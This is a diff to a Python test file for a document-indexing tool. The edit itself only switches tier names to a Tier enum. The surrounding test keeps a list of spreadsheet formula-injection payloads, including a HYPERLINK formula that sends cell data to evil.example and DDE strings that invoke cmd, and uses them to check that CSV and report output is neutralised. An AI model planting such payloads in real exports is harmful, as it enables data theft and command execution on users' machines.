@@ -10,6 +10,7 @@ import pytest
 from index import api
 from index.cleanup import report
 from index.ingest.safetext import csv_cell, write_csv
+from index.records import Tier
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -45,7 +46,7 @@ def test_the_report_neutralises_titles_owners_units_and_paths(tmp_path):
     front = "".join(f"{k}: {json.dumps(v)}\n" for k, v in meta.items())  # JSON strings are YAML strings
     (root / "local/=cmd.md").write_text(f"---\n{front}---\n{body}", encoding="utf-8")
     index_dir = tmp_path / "index"
-    api.build(index_dir, [("var", root / "var"), ("local", root / "local")], use_model=False)
+    api.build(index_dir, [(Tier.VAR, root / "var"), (Tier.LOCAL, root / "local")], use_model=False)
     with api.Engine(index_dir) as engine:
         written = api.write_report(engine, tmp_path / "out")
     cells = []
